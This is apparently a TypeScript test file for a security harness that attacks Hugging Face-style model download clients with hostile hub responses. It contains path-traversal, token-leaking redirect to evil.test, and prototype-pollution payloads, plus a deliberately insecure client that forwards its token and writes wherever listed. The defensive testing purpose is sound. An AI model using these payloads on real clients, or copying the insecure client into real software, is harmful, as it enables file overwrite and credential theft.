import assert from "node:assert/strict";
import { join } from "node:path";
import { test } from "node:test";
import type { Attack } from "../arbitraries/any_attack.ts";
import { writeBytes } from "../disk/mod.ts";
import { memoryWorld } from "../worlds/memory_world.ts";
import { type Script, scriptedSubject } from "../worlds/scripted_subject.ts";
import { attackingFetch } from "./attacking_fetch.ts";
import { type AttackGain, runAttack } from "./run_attack.ts";

const MODEL = [{ path: "config.json", bytes: new TextEncoder().encode("{}"), lfs: false }];
const LISTING = "/api/models/mlx-community/Attacked-4bit/tree/main";

/** Does whatever a hub says: writes where the listing says, sends the token after every redirect, and never looks. */
const credulous = scriptedSubject(async ({ host, config }: Script) => {
  const headers = { authorization: `Bearer ${config.env["HF_TOKEN"]}` };
  const endpoint = config.env["HF_ENDPOINT"] ?? "";
  let response = await host.fetch(endpoint + LISTING, { method: "GET", headers });
  const location = response.headers.get("location");
  if (location !== null) response = await host.fetch(location, { method: "GET", headers });
  const chunks: Uint8Array[] = [];
  for await (const chunk of response.body ?? []) chunks.push(chunk);
  const entries = JSON.parse(Buffer.concat(chunks).toString()) as { path: string; size: number }[];
  for (const { path, size } of entries)
    await writeBytes(
      host.files,
      join(config.root, "models/mlx-community/Attacked-4bit", path),
      new Uint8Array(size),
    );
});

const CASES: readonly (readonly [gain: AttackGain, attack: Attack])[] = [
  [
    "outside",
    { kind: "field", on: "tree", name: "path", value: "../../../../../../home/user/elsewhere/x" },
  ],
  ["token", { kind: "redirect", on: "tree", status: 302, location: `https://evil.test${LISTING}` }],
  ["measure", { kind: "field", on: "tree", name: "size", value: 300_000 }],
  ["untyped", { kind: "json", on: "tree", text: "[" }],
  ["prototype", { kind: "json", on: "tree", text: "[]" }],
];

for (const [gain, attack] of CASES) {
  test(`runAttack() sees that a credulous client lost: ${gain}`, async () => {
    const subject = gain === "prototype" ? polluted() : credulous;
    await using world = await memoryWorld(subject);
    try {
      const { findings, fired } = await runAttack(world, { attack, model: MODEL });
      assert.ok(fired > 0);
      assert.ok(
        findings.some((one) => one.gain === gain),
        JSON.stringify(findings),
      );
    } finally {
      Reflect.deleteProperty(Object.prototype, "polluted");
    }
  });
}

test("runAttack() finds nothing where an attack comes to nothing", async () => {
  await using world = await memoryWorld(credulous);
  const attack = { kind: "header", on: "tree", name: "etag", value: "../x" } as const;
  const { findings, fired, code } = await runAttack(world, { attack, model: MODEL });
  assert.deepEqual([findings, fired, code], [[], 1, undefined]);
});

test("attackingFetch() can give an entry a field that no assignment could", async () => {
  const bytes = new TextEncoder().encode('[{"path":"a"},{"path":"b"}]');
  const attack = {
    kind: "field",
    on: "tree",
    name: "__proto__",
    value: { size: 1 },
    nth: 1,
  } as const;
  const { fetch } = attackingFetch(async () => new Response(bytes), attack);
  const { body } = await fetch(`https://hub.test${LISTING}`, { method: "GET", headers: {} });
  const chunks: Uint8Array[] = [];
  for await (const chunk of body ?? []) chunks.push(chunk);
  assert.equal(
    Buffer.concat(chunks).toString(),
    '[{"path":"a"},{"path":"b","__proto__":{"size":1}}]',
  );
});

// Helpers

function polluted() {
  return scriptedSubject(async ({ host, config }) => {
    await host.fetch(`${config.env["HF_ENDPOINT"]}${LISTING}`, { method: "GET", headers: {} });
    // oxlint-disable-next-line no-extend-native -- this is what a careless merge of objects does
    Object.defineProperty(Object.prototype, "polluted", {
      value: 1,
      enumerable: true,
      configurable: true,
    });
  });
}
